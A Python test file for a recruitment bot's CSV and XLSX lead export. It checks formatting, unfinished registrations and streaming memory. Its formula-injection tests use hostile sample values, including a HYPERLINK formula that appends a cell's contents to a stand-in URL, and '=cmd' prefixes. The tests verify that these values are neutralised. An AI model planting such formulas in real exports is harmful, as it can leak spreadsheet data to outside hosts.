"""Exports read back with real readers (the csv module, openpyxl): what a row holds, Excel
details, formula neutralisation, unfinished registrations, streaming in bounded memory."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from sqlalchemy.ext.asyncio import AsyncEngine

from bot import ssw
from bot.staff.export import (
    Cell,
    Column,
    Rows,
    export,
    export_table,
    mobile_text,
    neutralise,
    write_csv,
    write_xlsx,
)
from bot.staff.filters import LeadFilter
from bot.staff.outcome import outcome, outcome_text, stored_outcome_text
from bot.storage.db import create_engine
from tests.staff.factory import add_lead, add_unfinished, eligibility

ELIGIBLE = eligibility(age=30, sector="construction", jp_tests=["jft_a2"], skills_test="yes")
DANGEROUS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]


class BytesSink:
    """A sink like an aiohttp response: async write, and it records how often it was called."""

    def __init__(self) -> None:
        self.buffer = io.BytesIO()
        self.writes = 0

    async def write(self, data: bytes) -> None:
        self.buffer.write(data)
        self.writes += 1

    @property
    def data(self) -> bytes:
        return self.buffer.getvalue()


class NullSink:
    def __init__(self) -> None:
        self.size = 0

    async def write(self, data: bytes) -> None:
        self.size += len(data)


EVERY = LeadFilter()


async def csv_rows(database: AsyncEngine, where: LeadFilter = EVERY) -> list[dict[str, str]]:
    sink = BytesSink()
    await export(database, where, "csv", sink)
    assert sink.data.startswith(b"\xef\xbb\xbf")  # the BOM, for Excel
    text = sink.data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def xlsx_sheet(database: AsyncEngine, where: LeadFilter = EVERY) -> Any:
    sink = BytesSink()
    await export(database, where, "xlsx", sink)
    return openpyxl.load_workbook(io.BytesIO(sink.data)).active


def as_excel_shows(value: Any) -> Any:
    """A cell's text as Excel shows it: Excel decodes the _xHHHH_ escapes xlsxwriter writes
    for control characters (a carriage return is _x000D_); openpyxl leaves them as they are."""
    return unescape(value) if isinstance(value, str) else value


def by_header(sheet: Any) -> list[dict[str, Any]]:
    rows = [[as_excel_shows(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


async def test_a_csv_row_is_one_lead_in_readable_english(database: AsyncEngine) -> None:
    reference = await add_lead(
        database,
        full_name="محمد علی خان",
        cnic="3520212345671",
        mobile="+923001234567",
        birth_date=date(1998, 3, 15),
        answers={
            "sectors": ["construction", "food_service"],
            "jp_tests": ["jft_a2", "jlpt_n4"],
            "japan_history": "titp_completed",
            "titp_field": "agriculture",
            "district": "Faisalabad",
            "experience_years": 0,
        },
        eligibility=ELIGIBLE,
        language="ur",
        source="roadshow_lahore",
        created_at=datetime(2026, 11, 1, 19, 30, tzinfo=UTC),
    )
    [row] = await csv_rows(database)
    assert row == {
        "Reference": reference,
        "Registered at (Pakistan time)": "2026-11-02 00:30",
        "Full name": "محمد علی خان",
        "CNIC": "35202-1234567-1",
        "Mobile number": "'+92 300 1234567",
        "Date of birth": "1998-03-15",
        "Gender": "Male",
        "Province": "Punjab",
        "District or city": "Faisalabad",
        "Education": "Matric (class 10)",
        "Work experience (years)": "0",
        "Work you want": "Construction, Food service",
        "Japanese level": "I am learning now",
        "Japanese tests passed": "JFT-Basic A2.2 or A2 (score 200–250), JLPT N4",
        "SSW skills test passed": "No",
        "Passport": "Yes",
        "Earlier time in Japan": "Technical Intern Training, completed",
        "Technical Intern Training field": "Agriculture",
        "Eligibility outcome": "Meets the main requirements: SSW (i) in Construction",
        "Status": "new",
        "Language": "Urdu",
        "Source": "roadshow_lahore",
        "Possible duplicate of": "",
    }


async def test_xlsx_header_dates_and_text_cells(database: AsyncEngine) -> None:
    await add_lead(
        database,
        full_name="ٹیسٹ زینب بی بی",
        cnic="3520212345671",
        mobile="+923001234567",
        eligibility=None,
        created_at=datetime(2026, 11, 1, 19, 30, tzinfo=UTC),
    )
    await add_lead(database, eligibility=ELIGIBLE)
    sheet = await xlsx_sheet(database)
    header = next(sheet.iter_rows(min_row=1, max_row=1))
    assert all(cell.font.b for cell in header)
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{header[-1].column_letter}3"
    assert sheet.column_dimensions["C"].width >= len("ٹیسٹ زینب بی بی")
    assert sheet.column_dimensions["B"].width >= 16  # a date-time fits

    first, second = by_header(sheet)
    assert first["Full name"] == "ٹیسٹ زینب بی بی"
    assert first["Registered at (Pakistan time)"] == datetime(2026, 11, 2, 0, 30)
    assert first["Date of birth"] == datetime(1998, 3, 15)  # a date cell (openpyxl reads dates
    assert first["Eligibility outcome"] == "Not checked"  # as datetimes at midnight)
    assert second["Eligibility outcome"] == "Meets the main requirements: SSW (i) in Construction"
    assert first["Work experience (years)"] == 3

    cells = {cell.value: cell for cell in sheet[2]}
    assert cells["35202-1234567-1"].data_type == "s"
    assert cells["+92 300 1234567"].data_type == "s"  # text, readable, not a formula
    assert cells[datetime(2026, 11, 2, 0, 30)].is_date
    assert cells[datetime(1998, 3, 15)].number_format == "yyyy-mm-dd"
    assert cells[datetime(2026, 11, 2, 0, 30)].number_format == "yyyy-mm-dd hh:mm"


@pytest.mark.parametrize("first", DANGEROUS)
async def test_formula_injection_is_neutralised_in_both_formats(
    database: AsyncEngine, first: str
) -> None:
    name = f'{first}HYPERLINK("http://example.invalid","x")'
    await add_lead(
        database,
        full_name=name,
        answers={"district": f"{first}1+1"},
        source=f"{first}cmd",
    )
    [row] = await csv_rows(database)
    assert row["Full name"] == "'" + name
    assert row["District or city"] == f"'{first}1+1"
    assert row["Source"] == f"'{first}cmd"

    [xrow] = by_header(await xlsx_sheet(database))
    assert xrow["Full name"] == "'" + name
    assert xrow["District or city"] == f"'{first}1+1"
    assert xrow["Source"] == f"'{first}cmd"
    assert xrow["Mobile number"].startswith("+92 ")  # our own format: a safe text cell


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://example.invalid/?"&A1,"click")', "+92 300 1234567", "-1", "@SUM(A1)"],
)
async def test_tricky_names_come_back_neutralised(database: AsyncEngine, name: str) -> None:
    await add_lead(database, full_name=name)
    [row] = await csv_rows(database)
    assert row["Full name"] == "'" + name
    [xrow] = by_header(await xlsx_sheet(database))
    assert xrow["Full name"] == "'" + name
    sink = BytesSink()
    await export(database, LeadFilter(), "xlsx", sink)
    with zipfile.ZipFile(io.BytesIO(sink.data)) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no cell is ever a formula


def test_neutralise() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("Ali") == "Ali"
    assert neutralise("") == ""
    assert neutralise("'already") == "'already"
    assert neutralise(" =1") == " =1"  # a leading space is text to Excel


def test_mobile_text_matches_the_bot_format() -> None:
    from bot.engine.validators import format_mobile

    for number in ["+923001234567", "+923455550000", "+923125559999"]:
        assert mobile_text(number) == format_mobile(number)
    assert mobile_text("+441234567890") == format_mobile("+441234567890")


async def test_odd_text_round_trips_through_xlsx() -> None:
    columns = [Column(name) for name in "ABCDE"]
    texts = ['a & <b> "c"', "\rline\nnext", "  spaced  ", "x\x01y", "_x0041_"]

    async def rows() -> AsyncIterator[Sequence[Cell]]:
        yield texts

    sink = BytesSink()
    await write_xlsx(columns, rows(), sink)
    sheet = openpyxl.load_workbook(io.BytesIO(sink.data)).active
    shown = [as_excel_shows(cell.value) for cell in sheet[2]]
    assert shown == [texts[0], "'" + texts[1], *texts[2:]]


async def test_unfinished_registrations_with_the_step_where_they_stopped(
    database: AsyncEngine,
) -> None:
    earlier = await add_lead(database)
    await add_unfinished(
        database,
        {"consent": "yes", "full_name": "ٹیسٹ زینب بی بی", "cnic": "9900000000001"},
        "mobile",
        last_seen_at=datetime(2026, 11, 3, 7, tzinfo=UTC),
        language="ur",
        source="=cmd",
    )
    await add_unfinished(  # left the form for the menu: they would be asked the CNIC next
        database,
        {"consent": "yes", "full_name": "Test Ali", "province": "sindh", "district": "Sukkur"},
        None,
        flow=None,
        last_seen_at=datetime(2026, 11, 4, tzinfo=UTC),
    )
    await add_unfinished(  # every question answered, Submit not tapped
        database,
        {"consent": "yes", "full_name": "Test Review", "sectors": ["fishery"]},
        None,
        mode="review",
        last_seen_at=datetime(2026, 11, 5, tzinfo=UTC),
    )
    rows = await csv_rows(database, LeadFilter(unfinished=True))
    assert [row["Stopped at"] for row in rows] == [
        "Mobile number",
        "CNIC",
        "Review (not submitted)",
    ]
    first = rows[0]
    assert first["Last seen at (Pakistan time)"] == "2026-11-03 12:00"
    assert first["Full name"] == "ٹیسٹ زینب بی بی"
    assert first["CNIC"] == "99000-0000000-1"
    assert first["Mobile number"] == "" and first["Gender"] == ""
    assert first["Language"] == "Urdu" and first["Source"] == "'=cmd"
    assert rows[1]["Province"] == "Sindh"
    assert rows[2]["Work you want"] == "Fishery and aquaculture"
    assert "Eligibility outcome" not in first and "Reference" not in first
    assert all(row["Registered earlier as"] in {"", earlier} for row in rows)

    [xfirst, *_] = by_header(await xlsx_sheet(database, LeadFilter(unfinished=True)))
    assert xfirst["Stopped at"] == "Mobile number"
    assert xfirst["Last seen at (Pakistan time)"] == datetime(2026, 11, 3, 12, 0)


async def test_filters_apply_to_exports(database: AsyncEngine) -> None:
    await add_lead(database, answers={"sectors": ["agriculture"], "province": "sindh"})
    await add_lead(database, answers={"sectors": ["construction"]}, eligibility=ELIGIBLE)
    rows = await csv_rows(database, LeadFilter(sector="agriculture"))
    assert [row["Work you want"] for row in rows] == ["Agriculture"]
    rows = await csv_rows(database, LeadFilter(eligible="meets", sector="construction"))
    assert [row["Eligibility outcome"] for row in rows] == [
        "Meets the main requirements: SSW (i) in Construction"
    ]
    assert await csv_rows(database, LeadFilter(province="kp")) == []


async def test_an_empty_export_still_has_its_header(database: AsyncEngine) -> None:
    sink = BytesSink()
    assert await export(database, LeadFilter(), "csv", sink) == 0
    assert sink.data.decode("utf-8-sig").startswith("Reference,Registered at")
    sheet = await xlsx_sheet(database)
    assert sheet.max_row == 1 and sheet["A1"].value == "Reference"


async def test_progress_is_reported_per_batch(database: AsyncEngine) -> None:
    for _ in range(3):
        await add_lead(database)
    seen: list[int] = []
    table = export_table(database, LeadFilter())
    assert await write_csv(table.columns, table.rows, NullSink(), seen.append) == 3
    assert sum(seen) == 3


def test_the_outcome_column_reads_an_assessment() -> None:
    assessment = ssw.Assessment.from_dict(ELIGIBLE)
    assert outcome(assessment) == "meets"
    assert outcome_text(assessment) == "Meets the main requirements: SSW (i) in Construction"
    assert outcome_text(None) == "Not checked"
    assert stored_outcome_text({"version": 99}) == "Unreadable check"
    possible = eligibility(age=30, sector="construction", jp_tests=[], skills_test="no")
    assert stored_outcome_text(possible).startswith(
        "Can get there after some steps: SSW (i) in Construction"
    )


# -- streaming -------------------------------------------------------------------------------

STREAMED = 20_000


@pytest.fixture(scope="module")
def seeded_url(tmp_path_factory: pytest.TempPathFactory) -> str:
    import asyncio

    from bench.seed import seed

    url = f"sqlite:///{tmp_path_factory.mktemp('seeded') / 'leads.db'}"
    asyncio.run(seed(url, STREAMED, unfinished=0))
    return url


@pytest.mark.parametrize("format", ["csv", "xlsx"])
async def test_20000_leads_stream_in_bounded_memory(seeded_url: str, format: str) -> None:
    """Rows come in batches: the peak of traced memory stays far below what holding every
    row would take (each lead holds about 4 KB of data before it is turned into cells)."""
    database = create_engine(seeded_url)
    rows = Rows()
    rows.answers({"sectors": ["construction"]})  # load the catalogue before measuring
    try:
        tracemalloc.start()
        sink = NullSink()
        table = export_table(database, LeadFilter(), rows)
        if format == "csv":
            count = await write_csv(table.columns, table.rows, sink)
        else:
            count = await write_xlsx(table.columns, table.rows, sink)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
        await database.dispose()
    assert count == STREAMED
    assert sink.size > 500_000
    held_all = STREAMED * 4_000  # a lower bound for holding every lead at once: 80 MB
    assert peak < 25_000_000 < held_all, f"peak traced memory {peak / 1e6:.1f} MB"
